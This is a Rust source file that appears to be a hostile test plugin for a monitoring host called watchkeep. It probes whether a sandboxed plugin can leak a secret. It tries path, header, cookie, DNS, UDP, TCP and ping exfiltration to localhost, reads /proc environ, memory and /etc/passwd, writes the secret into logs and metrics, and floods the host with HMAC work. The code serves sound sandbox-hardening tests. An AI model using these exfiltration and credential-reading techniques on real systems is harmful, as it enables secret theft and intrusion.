//! Tries to learn a secret that it may attach and not read, by every interface that answers. What it saw it returns with
//! every byte turned, so that nothing which is taken out of reports hides it from the test.

use watchkeep::plugin::{commands, dns, files, http, icmp, kv, log, net, secrets, system, transport};
use watchkeep_hostile_programs::{field, turned};

const SHORT: u64 = 20_000;

watchkeep_hostile_programs::check!("adversary", |run| {
    let config = run.config.as_str();
    let seen: Vec<u8> = match field(config, "do") {
        "echo" => {
            let mut request = attached(config);
            request.body_max = number(config, "body_max").unwrap_or(1 << 20);
            asked(config, &request)
        }
        "cuts" => (1..=number(config, "body_max").unwrap_or(0))
            .flat_map(|cut| {
                let mut request = attached(config);
                request.body_max = cut;
                let mut seen = asked(config, &request);
                seen.push(b'\n');
                seen
            })
            .collect(),
        "remember" => {
            let guess = field(config, "guess");
            let before = kv::get("guess").map_or(Vec::new(), |entry| entry.value);
            kv::set("guess", guess.as_bytes()).expect("it fits");
            let now = kv::get("guess").map_or(Vec::new(), |entry| entry.value);
            format!("before {} now {}", before == guess.as_bytes(), now == guess.as_bytes()).into_bytes()
        }
        "stream" => stream(config),
        "datagram" => {
            let answers =
                net::udp_exchange(field(config, "host"), port(config), transport::Family::Any, b"ask", 1, SHORT);
            answers.map_or_else(told, |answers| answers.concat_data())
        }
        "carry" => carry(config),
        "spread" => return Ok(spread(config)),
        "fault" => {
            let bytes = secrets::reveal("key").expect("it may be revealed");
            let text = String::from_utf8_lossy(&bytes).into_owned() + " ";
            return Err(Fault::Other(text.repeat(200_000)));
        }
        "machine" => machine(config),
        "burn" => burn(config),
        other => return Err(Fault::Config(format!("do what: {other}"))),
    };
    let mut said = report(State::Ok, "seen");
    said.details = Some(turned(&seen));
    Ok(said)
});

trait Data {
    fn concat_data(&self) -> Vec<u8>;
}

impl Data for Vec<net::Datagram> {
    fn concat_data(&self) -> Vec<u8> {
        self.iter().flat_map(|datagram| datagram.data.clone()).collect()
    }
}

fn number(config: &str, name: &str) -> Option<u64> {
    field(config, name).parse().ok()
}

fn port(config: &str) -> u16 {
    field(config, "port").parse().unwrap_or(0)
}

fn told(failure: transport::Failure) -> Vec<u8> {
    format!("{:?}: {}", failure.kind, failure.message).into_bytes()
}

fn attached(config: &str) -> http::Request {
    let mut request = get(field(config, "url"));
    if field(config, "placement") != "none" {
        let placement = match field(config, "placement") {
            "basic" => transport::Placement::Basic("user".into()),
            "query" => transport::Placement::Query("key".into()),
            _ => transport::Placement::Header("x-key".into()),
        };
        request.credentials.push(transport::Credential { secret: "key".into(), placement });
    }
    request.timeout = number(config, "timeout");
    if field(config, "method") != "" {
        request.method = field(config, "method").into();
    }
    if field(config, "accept") != "" {
        request.decompress = false;
        let value = field(config, "accept").into();
        request.headers.push(http::Header { name: "accept-encoding".into(), value });
    }
    request
}

/// By either call; the body is what comes last.
fn asked(config: &str, request: &http::Request) -> Vec<u8> {
    if !field(config, "call").starts_with("fetch") {
        return answer(http::send(request));
    }
    let (exchange, trailers) = match field(config, "call") {
        "fetch_with" => {
            let extras = http::Extras { resolver: None, http2: field(config, "http2") == "yes", digest: None };
            let told = http::fetch_with(request, &extras);
            (told.exchange, told.trailers)
        }
        _ => (http::fetch(request), Vec::new()),
    };
    let (word, response, failure) = match exchange.ending {
        http::Ending::Whole(response) => ("whole", Some(response), None),
        http::Ending::Cut(cut) => ("cut", Some(cut.response), Some(cut.failure)),
        http::Ending::Stopped(stopped) => ("stopped", Some(stopped.response), Some(stopped.failure)),
        http::Ending::Unanswered(failure) => ("unanswered", None, Some(failure)),
    };
    let mut seen = format!("{word} {:?} {:?}\n", exchange.reading, exchange.leniences).into_bytes();
    let hops: Vec<_> = exchange.legs.iter().map(|leg| format!("{:?}", leg.hop)).collect();
    seen.extend_from_slice(format!("{hops:?}\n").as_bytes());
    for http::Header { name, value } in trailers {
        seen.extend_from_slice(format!("{name}: {value}\n").as_bytes());
    }
    seen.extend(failure.map(told).unwrap_or_default());
    seen.extend(response.map(|response| answer(Ok(response))).unwrap_or_default());
    seen
}

fn answer(sent: Result<http::Response, transport::Failure>) -> Vec<u8> {
    match sent {
        Ok(response) => {
            let mut seen = format!("{} {}\n", response.status, response.url).into_bytes();
            for http::Header { name, value } in &response.headers {
                seen.extend_from_slice(format!("{name}: {value}\n").as_bytes());
            }
            seen.extend_from_slice(format!("{:?}\nwire {}\n", response.redirects, response.wire_bytes).as_bytes());
            seen.extend_from_slice(&response.body);
            seen
        }
        Err(failure) => told(failure),
    }
}

/// Sends the secret, and reads what comes back in the smallest pieces.
fn stream(config: &str) -> Vec<u8> {
    let stream = match net::connect(field(config, "host"), port(config), transport::Family::Any, SHORT) {
        Ok(stream) => stream,
        Err(failure) => return told(failure),
    };
    let around = field(config, "around").as_bytes();
    let encoding = match field(config, "encoding") {
        "base64" => transport::Encoding::Base64,
        "hex" => transport::Encoding::Hex,
        _ => transport::Encoding::Raw,
    };
    if let Err(failure) = stream.write_secret("key", around, b"", encoding, SHORT) {
        return told(failure);
    }
    let mut seen = Vec::new();
    loop {
        match stream.read(3, SHORT) {
            Ok(bytes) if bytes.is_empty() => return seen,
            Ok(bytes) => seen.extend_from_slice(&bytes),
            Err(failure) => {
                seen.extend_from_slice(&told(failure));
                return seen;
            }
        }
    }
}

/// Takes `text` out by every way there is; a line for each.
fn carry(config: &str) -> Vec<u8> {
    let text = field(config, "text");
    let (host, port) = (field(config, "host"), port(config));
    let at = |rest: &str| format!("http://{host}:{port}/{rest}");
    let header = |name: &str| http::Header { name: name.into(), value: text.into() };
    let sent = |request: http::Request| match http::send(&request) {
        Ok(response) => format!("status {}", response.status),
        Err(failure) => format!("{:?}", failure.kind),
    };
    let kind = |failure: transport::Failure| format!("{:?}", failure.kind);
    let mut lines = Vec::new();
    let mut line = |way: &str, said: String| lines.push(format!("{way} {said}"));
    line("path", sent(get(&at(text))));
    line("escaped", sent(get(&at(&text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()))));
    line("query", sent(get(&at(&format!("?k={text}")))));
    line("header", sent(http::Request { headers: vec![header("x-any")], ..get(&at("")) }));
    line("cookie", sent(http::Request { headers: vec![header("cookie")], ..get(&at("")) }));
    line("body", sent(http::Request { method: "POST".into(), body: text.into(), ..get(&at("")) }));
    line("label", sent(get(&format!("http://{text}.localhost:{port}/"))));
    line(
        "datagram",
        net::udp_exchange(host, port, transport::Family::Any, text.as_bytes(), 0, SHORT)
            .map_or_else(kind, |_| "sent".into()),
    );
    let halves = text.split_at(text.len() / 2);
    let stream = net::connect(host, port, transport::Family::Any, SHORT);
    line("stream", match stream {
        Ok(stream) => {
            let first = stream.write(halves.0.as_bytes(), SHORT);
            first.and_then(|()| stream.write(halves.1.as_bytes(), SHORT)).map_or_else(kind, |()| "sent".into())
        }
        Err(failure) => kind(failure),
    });
    let question = dns::Question {
        name: format!("{text}.example"),
        kind: "TXT".into(),
        server: Some(transport::Address { ip: "127.0.0.1".into(), port }),
        protocol: dns::Protocol::Udp,
        recursive: false,
        dnssec: false,
        timeout: 200,
    };
    line("question", dns::query(&question).map_or_else(kind, |_| "answered".into()));
    let options = icmp::EchoOptions { count: 1, interval: 10, timeout: 100, size: 8, family: transport::Family::Any };
    line("ping", icmp::echo(&format!("{text}.localhost"), options).map_or_else(kind, |_| "answered".into()));
    line("command", match commands::run("tool", &[("what".into(), text.into())], SHORT) {
        Ok(_) => "ran".into(),
        Err(commands::CommandError::Denied(_)) => "FailureKind::Denied".into(),
        Err(other) => format!("{other:?}"),
    });
    lines.join("\n").into_bytes()
}

/// Holds the secret, and writes it into everything that leaves.
fn spread(config: &str) -> Report {
    use watchkeep::plugin::types::{Attachment, Event, Finding, Label, Metric, Severity};
    let bytes = secrets::reveal("key").expect("it may be revealed");
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let name: String = format!("m_{text}").replace(|letter: char| !letter.is_ascii_alphanumeric(), "_");
    let labels = || vec![Label { name: name.clone(), value: text.clone() }];
    let metric = || Metric {
        name: name.clone(),
        value: 1.0,
        unit: String::new(),
        warning: None,
        critical: None,
        min: None,
        max: None,
        labels: labels(),
    };
    let broken = field(config, "break");
    log::write(log::Level::Error, &text, &[(text.clone(), text.clone()), (format!("a {text}"), "b".into())]);
    kv::set(&format!("key {text}"), text.as_bytes()).expect("it fits");
    let mut said = report(State::Ok, text.replace(' ', "\n"));
    said.details = Some(text.clone());
    said.metrics = vec![metric()];
    said.labels = labels();
    said.findings = vec![Finding {
        key: text.clone(),
        state: State::Warning,
        summary: text.clone(),
        labels: labels(),
        metrics: vec![metric()],
        link: Some(format!("https://example.com/{text}")),
    }];
    said.events = vec![Event {
        id: text.clone(),
        thread: text.clone(),
        severity: Severity::Info,
        title: text.replace(' ', "\r\n"),
        body: text.clone(),
        link: Some(format!("https://example.com/?k={text}")),
        at: 0,
        labels: labels(),
    }];
    said.attachments = vec![Attachment {
        name: text.clone(),
        media_type: text.clone(),
        data: bytes,
        series: Some(text.clone()),
    }];
    match broken {
        "metric" => said.metrics[0].name = format!("{text} is none"),
        "label" => said.labels[0].name = format!("{text} is none"),
        "twice" => said.findings.push(said.findings[0].clone()),
        "panic" => panic!("with {text}"),
        _ => {}
    }
    said
}

/// What this machine shows.
fn machine(config: &str) -> Vec<u8> {
    let mut seen = Vec::new();
    for path in ["self/environ", "self/mem", "environ", "1/environ", "1/root/etc/passwd", field(config, "path")] {
        match files::read("root", path, 0, 1 << 16) {
            Ok(bytes) => seen.extend_from_slice(format!("{path} {} bytes\n", bytes.len()).as_bytes()),
            Err(error) => seen.extend_from_slice(format!("{path} {error:?}\n").as_bytes()),
        }
    }
    if let Ok(output) = commands::run("tool", &[], SHORT) {
        seen.extend_from_slice(&output.stdout);
        seen.extend_from_slice(&output.stderr);
    }
    if let Ok(processes) = system::processes(field(config, "processes")) {
        seen.extend(processes.iter().flat_map(|process| process.command.clone().into_bytes()));
    }
    seen
}

/// Lets the host look for more and more signatures in large answers.
fn burn(config: &str) -> Vec<u8> {
    let mut request = get(field(config, "url"));
    request.body_max = 8 << 20;
    request.method = "POST".into();
    for at in 0..16_u8 {
        let hmac = transport::HmacPlacement {
            header: format!("x-{at}"),
            prefix: String::new(),
            digest: transport::Digest::Sha512,
            key_encoding: transport::Encoding::Raw,
            output_encoding: transport::Encoding::Base64,
            message: vec![transport::MessagePart::Bytes(vec![at])],
        };
        let placement = transport::Placement::Hmac(hmac);
        request.credentials.push(transport::Credential { secret: "key".into(), placement });
    }
    for round in 0..100_u8 {
        for credential in &mut request.credentials {
            if let transport::Placement::Hmac(hmac) = &mut credential.placement {
                hmac.message.push(transport::MessagePart::Bytes(vec![round]));
            }
        }
        if let Err(failure) = http::send(&request) {
            return told(failure);
        }
    }
    b"all were answered".to_vec()
}
